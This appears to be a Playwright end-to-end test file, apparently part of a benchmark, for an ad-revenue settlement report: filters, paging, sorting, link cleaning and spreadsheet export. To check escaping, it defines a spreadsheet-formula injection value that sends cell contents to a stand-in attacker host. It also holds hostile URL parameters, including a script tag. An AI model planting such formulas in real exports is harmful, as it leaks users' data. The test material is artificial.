// Settlement report (/information/settlement): filters, grouping, paging,
// sorting, the URL query, and the .xlsx/.csv export of the whole range.
import { readFileSync } from 'node:fs';
import XLSX from 'xlsx';
import { expect, test } from '../fixtures.mjs';
import { addDays, providerToday } from '../lib/days.mjs';
import {
  callFromPage,
  textShown,
  clearFaults,
  pageButton,
  pickOption,
  pickRangePreset,
  setFault,
  setLocale,
  signIn,
  tableRows,
} from '../lib/console.mjs';
import { sheetXml } from '../lib/sheet.mjs';

const PATH = '/information/settlement';
const AD_TYPES = {
  splash: 'Splash',
  banner: 'Banner',
  interstitial: 'Interstitial',
  native: 'Native',
  rewarded: 'Rewarded video',
};
const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';

const bodyRows = (page) => tableRows(page.getByTestId('settlement-table'));

async function waitReady(page) {
  await page.locator('[data-testid=settlement-table][data-state=ready]').waitFor();
}

async function openReport(page, baseURL, search = '') {
  await setLocale(page, baseURL, 'en-US');
  await signIn(page, baseURL, 'demo', { redirect: `${PATH}${search}` });
  await waitReady(page);
}

const query = (page) => new URL(page.url()).searchParams;

/** Today in the report's time zone (Asia/Shanghai), as the page computes it. */

const api = callFromPage;

async function cellTexts(page, column) {
  const headers = await page.locator('[data-testid=settlement-table] thead th').allTextContents();
  const index = headers.findIndex((h) => h.trim() === column);
  expect(index, `no column ${column} in ${headers.join('|')}`).toBeGreaterThanOrEqual(0);
  return bodyRows(page).evaluateAll((rows, i) => rows.map((r) => r.children[i].textContent.trim()), index);
}

const money = (s) => Number(s.replace(/[^0-9.-]/g, ''));

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

test('settlement: filters by app and ad type, grouped by day and ad position, with totals and status tags', async ({
  page,
  baseURL,
}) => {
  await openReport(page, baseURL);
  await expect(bodyRows(page)).toHaveCount(7);
  await expect(page.getByTestId('settlement-table').locator('[data-status]')).toHaveText([
    'Estimated',
    'Estimated',
    'Estimated',
    'Final',
    'Final',
    'Final',
    'Final',
  ]);
  await page.getByTestId('settlement-timezone').getByText('Time zone: Asia/Shanghai').waitFor();
  await page.getByTestId('settlement-currency').getByText('Currency: USD').waitFor();

  await pickOption(page, page.getByLabel('Apps'), 'Block Puzzle Classic');
  await page.keyboard.press('Escape');
  // Ad types are among the filters folded behind "More filters" (issue 33).
  await page.getByRole('button', { name: 'More filters' }).click();
  await pickOption(page, page.getByLabel('Ad types'), 'Banner');
  await page.keyboard.press('Escape');
  await page.getByRole('checkbox', { name: 'Ad position', exact: true }).check();
  // A draft until Query.
  expect(query(page).get('apps')).toBeNull();
  await page.getByRole('button', { name: 'Query' }).click();
  await expect.poll(() => query(page).get('group'), { message: 'the grouping in the link' }).toBe('day,adPosition');
  await waitReady(page);
  expect(query(page).get('apps')).toBe('1001');
  expect(query(page).get('types')).toBe('banner');
  // One banner position of Block Puzzle Classic, one row per day.
  await expect(bodyRows(page)).toHaveCount(7);
  expect(new Set(await cellTexts(page, 'App'))).toEqual(new Set(['Block Puzzle Classic']));
  expect(new Set(await cellTexts(page, 'Ad type'))).toEqual(new Set(['Banner']));

  const params = Object.fromEntries(query(page));
  const expected = await api(page, '/media/settlement/list', {
    startDate: params.start,
    endDate: params.end,
    appIds: [1001],
    adTypes: ['banner'],
    groupBy: ['day', 'adPosition'],
  });
  const totals = page.getByTestId('settlement-totals');
  expect(money(await totals.locator('[data-metric=earnings]').textContent())).toBe(expected.result.totals.earnings);
  expect(money(await totals.locator('[data-metric=requests]').textContent())).toBe(expected.result.totals.requests);
  await expect(totals.locator('[data-metric=ctr]')).toHaveText(`${(expected.result.totals.ctr * 100).toFixed(2)}%`);
});

test('settlement: pages and sorts on the server; back and forward restore the report', async ({ page, baseURL }) => {
  const today = providerToday();
  // Pages of 10 (a report opens with 50: issue 33), so that 30 days by ad position make several.
  await openReport(page, baseURL, `?start=${addDays(today, -29)}&end=${today}&group=adPosition&size=10`);
  const total = (
    await api(page, '/media/settlement/list', {
      startDate: addDays(today, -29),
      endDate: today,
      groupBy: ['adPosition'],
    })
  ).result.total;
  expect(total, `several pages (${total} rows)`).toBeGreaterThan(20);
  await page.getByText(`${total} in total`).waitFor();
  const rowsText = () => bodyRows(page).allTextContents();

  // Issue 31: the headline column is the publisher's earnings.
  const revenueHeader = page.getByRole('columnheader', { name: 'Estimated earnings' });
  await revenueHeader.click();
  await expect
    .poll(() => [query(page).get('sort'), query(page).get('order')], { message: 'ascending earnings in the link' })
    .toEqual(['earnings', 'ascend']);
  await waitReady(page);
  const ascending = (await cellTexts(page, 'Estimated earnings')).map(money);
  expect(ascending).toEqual([...ascending].sort((a, b) => a - b));
  const ascendingRows = await rowsText();
  await revenueHeader.click();
  await expect.poll(() => query(page).get('order'), { message: 'descending revenue' }).toBe('descend');
  await waitReady(page);
  const descending = (await cellTexts(page, 'Estimated earnings')).map(money);
  expect(descending).toEqual([...descending].sort((a, b) => b - a));
  expect(descending[9]).toBeGreaterThanOrEqual(ascending[9]);
  const firstPage = await rowsText();

  // The benchmark's contract: loading while the query runs, ready with its rows. The request for page 2 is
  // held until the loading state has been seen (a slow fault could be taken by another request).
  let release;
  const held = new Promise((resolve) => {
    release = resolve;
  });
  const LIST = '**/media/settlement/list';
  await page.route(LIST, async (route) => {
    if (route.request().postDataJSON()?.current === 2) await held;
    await route.continue();
  });
  await pageButton(page, 2).click();
  await expect(page.getByTestId('settlement-table')).toHaveAttribute('data-state', 'loading');
  release();
  await waitReady(page);
  await page.unroute(LIST);
  expect(query(page).get('page')).toBe('2');
  const secondPage = await rowsText();
  expect(secondPage.length).toBe(10);
  expect(
    secondPage.some((row) => firstPage.includes(row)),
    'page 2 shows other rows',
  ).toBe(false);
  expect(money((await cellTexts(page, 'Estimated earnings'))[0]), 'page 2 continues the order').toBeLessThanOrEqual(
    descending[9],
  );

  await page.goBack();
  await expect.poll(() => query(page).get('page'), { message: 'back to page 1' }).toBeNull();
  await waitReady(page);
  expect(await rowsText()).toEqual(firstPage);
  await page.goBack();
  await expect.poll(() => query(page).get('order'), { message: 'back to ascending' }).toBe('ascend');
  await waitReady(page);
  expect(await rowsText()).toEqual(ascendingRows);
  await page.goForward();
  await expect.poll(() => query(page).get('order'), { message: 'forward to descending' }).toBe('descend');
  await waitReady(page);
  expect(await rowsText()).toEqual(firstPage);
  // The link opens the same report in another tab.
  const other = await page.context().newPage();
  await other.goto(page.url());
  await other.locator('[data-testid=settlement-table][data-state=ready]').waitFor();
  expect(await bodyRows(other).allTextContents()).toEqual(firstPage);
});

test('settlement: a period over one year is refused with a clear message; hostile link values are ignored', async ({
  page,
  baseURL,
}) => {
  const today = providerToday();
  await openReport(
    page,
    baseURL,
    '?apps=1001,1013,abc&types=banner,<script>&group=week&size=1000&sort=password&order=up&start=2020-02-30&end=x',
  );
  // 1013 belongs to another publisher, the rest is malformed: all dropped, and the link shows what applies.
  await expect
    .poll(() => [query(page).get('apps'), query(page).get('types')], { message: 'a cleaned link' })
    .toEqual(['1001', 'banner']);
  expect(query(page).get('size')).toBeNull();
  expect(query(page).get('sort')).toBeNull();
  expect(query(page).get('start')).toBe(addDays(today, -6));

  let calls = 0;
  page.on('request', (r) => r.url().endsWith('/media/settlement/list') && (calls += 1));
  const start = addDays(today, -400);
  // The range picker's two inputs: the start one carries the field's label, the end one its placeholder.
  const from = page.getByRole('textbox', { name: 'Period' });
  const to = page.getByRole('textbox', { name: 'End date' });
  await from.click();
  await from.press('Control+a');
  await from.pressSequentially(start);
  await page.keyboard.press('Tab');
  await to.press('Control+a');
  await to.pressSequentially(today);
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Query' }).click();
  await page.getByText('The period is 401 days long; choose at most 366 days (one year)').waitFor();
  expect(calls).toBe(0);
  expect(query(page).get('start')).toBe(addDays(today, -6));

  // The presets always give an allowed period.
  const [y, m] = today.split('-').map(Number);
  const firstOfLastMonth = new Date(Date.UTC(y, m - 2, 1)).toISOString().slice(0, 10);
  await pickRangePreset(page, from, 'Last month', firstOfLastMonth);
  await page.getByRole('button', { name: 'Query' }).click();
  await waitReady(page);
  await expect.poll(() => query(page).get('start'), { message: 'last month in the link' }).toBe(firstOfLastMonth);
  expect(query(page).get('end')).toBe(addDays(`${today.slice(0, 7)}-01`, -1));
});

test('settlement: exports the whole filtered range to xlsx and csv in a worker, escaping a hostile app name', async ({
  page,
  baseURL,
}) => {
  test.setTimeout(180000);
  // Whole days only: today's figures grow at the top of every hour, so a file read a few seconds after the
  // expected rows could honestly differ from them (CI once crossed an hour here).
  const end = addDays(providerToday(), -1);
  const start = addDays(end, -29);
  // Signed in on a static file of the build: the app is renamed before the report first loads (issue 30: one
  // page load, not a load and a reload).
  await setLocale(page, baseURL, 'en-US');
  await signIn(page, baseURL, 'demo', { redirect: '/version.json' });
  const renamed = await api(page, '/media/app/update', { id: 1001, name: HOSTILE });
  expect(renamed.code).toBe(0);
  try {
    await page.goto(`${baseURL}${PATH}?start=${start}&end=${end}&group=day,adPosition&apps=1001,1002,1007`);
    await waitReady(page);
    const workers = [];
    page.on('worker', (w) => workers.push(w.url()));
    const warnings = [];
    page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));

    const request = {
      startDate: start,
      endDate: end,
      groupBy: ['day', 'adPosition'],
      appIds: [1001, 1002, 1007],
      adPositionIds: [],
      adTypes: [],
    };
    const expected = (await api(page, '/media/settlement/export', request)).result;
    expect(expected.rows.length, `a range of many pages (${expected.rows.length} rows)`).toBeGreaterThan(200);
    // The server's columns, with the ID beside each name.
    const titles = expected.columns.flatMap((c) =>
      c.key === 'appName' ? ['App ID', c.title] : c.key === 'adPositionName' ? ['Ad position ID', c.title] : [c.title],
    );
    const base = `settlement_${start}_${end}`;
    const FILES = {
      xlsx: { item: 'Export Excel (.xlsx)', name: `${base}.xlsx` },
      csv: { item: 'Export CSV (.csv)', name: `${base}.csv` },
      csvData: { item: 'Export data-only CSV (.csv)', name: `${base}_data.csv` },
    };

    for (const format of ['xlsx', 'csv', 'csvData']) {
      await page.getByTestId('settlement-export').click();
      const item = page.getByRole('menuitem', { name: FILES[format].item });
      // The confirmation is a toast that leaves after 3 s: watch for it from the click on, while the file is read.
      const toastShown = textShown(page, `Exported ${expected.rows.length} rows to ${FILES[format].name}`);
      // By keyboard, like the other anchored popups: the menu follows its button when the page scrolls.
      // The closed menu stays in the DOM with its last contents: press only once it is open.
      await item.waitFor({ state: 'visible' });
      const [download] = await Promise.all([page.waitForEvent('download'), item.press('Enter')]);
      expect(download.suggestedFilename()).toBe(FILES[format].name);
      const file = await download.path();
      const wb = format === 'xlsx' ? XLSX.read(readFileSync(file), { cellNF: true, cellStyles: true }) : null;
      const matrix = wb
        ? XLSX.utils.sheet_to_json(wb.Sheets.Settlement, { header: 1, blankrows: true, defval: '' })
        : parseCsv(readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
      const cell = (v) => (format !== 'xlsx' && v !== '' && !Number.isNaN(Number(v)) ? Number(v) : v);
      // xlsx dates are Excel day numbers with a date format; CSV dates are ISO days.
      const day = (v) => (typeof v === 'number' ? XLSX.SSF.format('yyyy-mm-dd', v) : v);

      if (format === 'csvData') {
        // For machines: the header row first, then the data rows; no preamble, no totals.
        expect(matrix[0]).toEqual(titles);
        expect(matrix.length).toBe(1 + expected.rows.length);
        expect(matrix.slice(1).map((l) => l[0])).toEqual(expected.rows.map((r) => r.date));
        expect(matrix.some((l) => l[0] === 'Total')).toBe(false);
        await toastShown;
        continue;
      }
      const header = matrix.findIndex((line) => line[0] === 'Date');
      expect(matrix.slice(0, 10).map((l) => l[0])).toEqual([
        'Settlement report',
        'Period',
        'Apps',
        'Ad positions',
        'Ad types',
        'Group by',
        'Time zone',
        'Currency',
        'Generated at',
        'Data updated at',
      ]);
      expect(matrix[1][1]).toBe(`${start} – ${end}`);
      expect(String(matrix[2][1]).split(', ')).toHaveLength(3);
      expect(matrix[2][1]).toContain('Tap & Match <b>Puzzle</b>');
      expect(matrix[3][1]).toBe('All ad positions');
      expect(matrix[4][1]).toBe('All ad types');
      expect(matrix[5][1]).toBe('Day, Ad position');
      expect(matrix[6][1]).toBe('Asia/Shanghai');
      expect(matrix[7][1]).toBe('USD');
      expect(header).toBe(11);
      expect(matrix[header]).toEqual(titles);
      const body = matrix.slice(header + 1, header + 1 + expected.rows.length);
      expect(body.length).toBe(expected.rows.length);
      body.forEach((line, i) => {
        const r = expected.rows[i];
        const name = r.appName === HOSTILE ? `'${HOSTILE}` : r.appName;
        const want = [
          r.date,
          r.status === 'final' ? 'Final' : 'Estimated',
          r.appId,
          name,
          r.adPositionId,
          r.adPositionName,
          r.unitId,
          AD_TYPES[r.adType],
        ];
        expect(
          [day(line[0]), ...line.slice(1, 8).map((v, j) => (j === 1 || j === 3 ? cell(v) : v))],
          `row ${i}`,
        ).toEqual(want);
        expect(line.slice(8).map(cell), `row ${i}`).toEqual([
          r.requests,
          r.fills,
          r.fillRate,
          r.impressions,
          r.showRate,
          r.clicks,
          r.ctr,
          r.ecpm,
          r.revenue,
          r.earningsEcpm,
          r.earnings,
        ]);
      });
      expect(
        body.some((line) => line[3] === `'${HOSTILE}`),
        'the hostile name is in the file, escaped',
      ).toBe(true);
      expect(body.some((line) => line[3] === 'Tap & Match <b>Puzzle</b>')).toBe(true);
      expect(
        matrix.flat().some((v) => typeof v === 'string' && /^[=+\-@]/.test(v)),
        'no cell starts a formula',
      ).toBe(false);
      const totals = matrix[header + 1 + expected.rows.length];
      const t = expected.totals;
      expect(totals.map(cell)).toEqual([
        'Total',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        t.requests,
        t.fills,
        t.fillRate,
        t.impressions,
        t.showRate,
        t.clicks,
        t.ctr,
        t.ecpm,
        t.revenue,
        t.earningsEcpm,
        t.earnings,
      ]);
      if (wb) {
        // A first-class sheet: typed and formatted cells, fitted widths, autofilter, frozen header.
        const ws = wb.Sheets.Settlement;
        const first = header + 2;
        expect(ws[`A${first}`]).toMatchObject({ t: 'n', z: 'yyyy-mm-dd' });
        expect(ws[`C${first}`]).toMatchObject({ t: 'n', v: expected.rows[0].appId, z: '0' });
        expect(ws[`E${first}`]).toMatchObject({ t: 'n', v: expected.rows[0].adPositionId, z: '0' });
        expect(ws[`G${first}`]).toMatchObject({ t: 's', v: expected.rows[0].unitId });
        expect(ws[`I${first}`]).toMatchObject({ t: 'n', z: '#,##0' });
        expect(ws[`K${first}`]).toMatchObject({ t: 'n', z: '0.00%' });
        expect(ws[`Q${first}`]).toMatchObject({ t: 'n', z: '"$"#,##0.00' });
        // The publisher's earnings (issue 31) close the row: its eCPM, then the amount.
        expect(ws[`S${first}`]).toMatchObject({ t: 'n', z: '"$"#,##0.00' });
        expect(ws['!autofilter']).toEqual({ ref: `A${header + 1}:S${header + 1 + expected.rows.length}` });
        expect(ws['!cols']).toHaveLength(19);
        expect(ws['!cols'][5].wch).toBeGreaterThan(ws['!cols'][1].wch);
        expect(sheetXml(readFileSync(file))).toContain(
          `<pane ySplit="${header + 1}" topLeftCell="A${header + 2}" activePane="bottomLeft" state="frozen"/>`,
        );
      }
      await toastShown;
    }
    expect(
      workers.filter((u) => /\/sheet\.worker\.[0-9a-f]+\.worker\.js$/.test(u)).length,
      `workers: ${workers.join(', ')}`,
    ).toBe(3);
    expect(warnings.filter((w) => w.includes('spreadsheet export'))).toEqual([]);
  } finally {
    await api(page, '/media/app/update', { id: 1001, name: 'Block Puzzle Classic' });
  }
});
